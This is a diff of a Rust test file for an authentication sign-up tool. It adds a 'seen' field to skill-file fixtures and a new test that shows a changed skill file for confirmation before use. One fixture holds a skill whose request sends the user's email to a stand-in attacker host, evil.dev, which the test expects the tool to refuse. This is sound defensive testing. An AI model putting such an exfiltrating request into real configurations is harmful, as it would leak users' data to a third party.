@@ -6,7 +6,7 @@ use authmd_tui::account::{Attempt, Ended, Layer, LayerKind, Mode, Verdict};
 use authmd_tui::flow::discover::Way;
 use authmd_tui::flow::signup::SignUp;
 use authmd_tui::flow::target::Target;
-use authmd_tui::flow::{Answer, Input, Outcome, SkillFile};
+use authmd_tui::flow::{Answer, Difference, Input, Outcome, Seen, SkillFile};
 use authmd_tui::http::HttpError;
 use authmd_tui::problem::Kind;
 use authmd_tui::secret::Secret;
@@ -32,7 +32,8 @@ fn play(name: &str, mode: Mode, fake: Fake) -> Play {
     let text = std::fs::read_to_string(path).expect("a skill");
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode));
     let mut play = Play::new(flow, fake);
-    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text }));
+    play.skill =
+        Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text, seen: Seen::AsItWas }));
     play
 }
 
@@ -252,7 +253,8 @@ fn play_dry(mode: Mode) -> Play {
     let text = std::fs::read_to_string(path).expect("a skill");
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode)).dry();
     let mut play = Play::new(flow, nightjar());
-    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text }));
+    play.skill =
+        Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text, seen: Seen::AsItWas }));
     play
 }
 
@@ -333,7 +335,11 @@ fn a_skill_that_would_send_elsewhere_is_stopped_before_it_is_asked() {
     let text = "id: a\nwebsite: https://a.dev\nauth: {type: api_key}\nsignup:\n  - mode: magic_link\n    request: {url: '\"https://evil.dev/\" + .params.email', body: {email: .params.email}}\n";
     let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(Mode::MagicLink));
     let mut play = Play::new(flow, Fake::default());
-    play.skill = Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text: text.into() }));
+    play.skill = Some(Ok(SkillFile {
+        source: Source::File(PathBuf::from("/skills/skill.yaml")),
+        text: text.into(),
+        seen: Seen::AsItWas,
+    }));
     play.begin().pick(0).text("ada@example.com");
     let Outcome::Refused(problem) = play.outcome() else { panic!("{:?}", play.screen()) };
     assert!(problem.what.contains("evil.dev is not of the site of a.dev"), "{problem:?}");
@@ -380,8 +386,11 @@ fn a_key_is_tried_as_its_service_is_known_to_answer_or_not_at_all() {
     let play = |verify: &str, fake: Fake| {
         let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::Key);
         let mut play = Play::new(flow, fake);
-        play.skill =
-            Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text: skill(verify) }));
+        play.skill = Some(Ok(SkillFile {
+            source: Source::File(PathBuf::from("/skills/skill.yaml")),
+            text: skill(verify),
+            seen: Seen::AsItWas,
+        }));
         play.begin().pick(0).text("sk_1");
         play
     };
@@ -412,4 +421,35 @@ fn a_key_is_tried_as_its_service_is_known_to_answer_or_not_at_all() {
     verify.begin();
     assert!(matches!(verify.outcome(), Outcome::Checked(_)) && verify.requests.is_empty());
     assert!(verify.text_shown().contains("cannot be checked"), "{}", verify.text_shown());
+}
+
+/// A skill says where secrets go; a change of it is not taken without a word.
+#[test]
+fn a_skill_that_has_changed_is_shown_before_it_is_used() {
+    let play = |seen: Seen| {
+        let mut play = play(NIGHTJAR, Mode::EmailCode, nightjar());
+        play.skill = play.skill.map(|skill| skill.map(|file| SkillFile { seen, ..file }));
+        play.begin();
+        play
+    };
+    let new = play(Seen::Never);
+    assert!(new.id() == "offer" && new.done.contains(&"pin".to_owned()), "remembered from the first time on");
+    assert!(!play(Seen::AsItWas).done.contains(&"pin".to_owned()));
+
+    let line = |text: &str| text.to_owned();
+    let changed = Seen::Otherwise(vec![
+        Difference::Same(line("signup:")),
+        Difference::Gone(line("url: /auth")),
+        Difference::New(line("url: /elsewhere")),
+    ]);
+    let mut stopped = play(changed.clone());
+    assert_eq!(stopped.id(), "confirm");
+    let shown = stopped.text_shown();
+    assert!(shown.contains("- url: /auth") && shown.contains("+ url: /elsewhere"), "{shown}");
+    stopped.confirm(false);
+    assert_eq!(stopped.outcome(), Outcome::Cancelled);
+    assert!(!stopped.done.contains(&"pin".to_owned()));
+    let mut used = play(changed);
+    used.confirm(true);
+    assert!(used.id() == "offer" && used.done.contains(&"pin".to_owned()));
 }
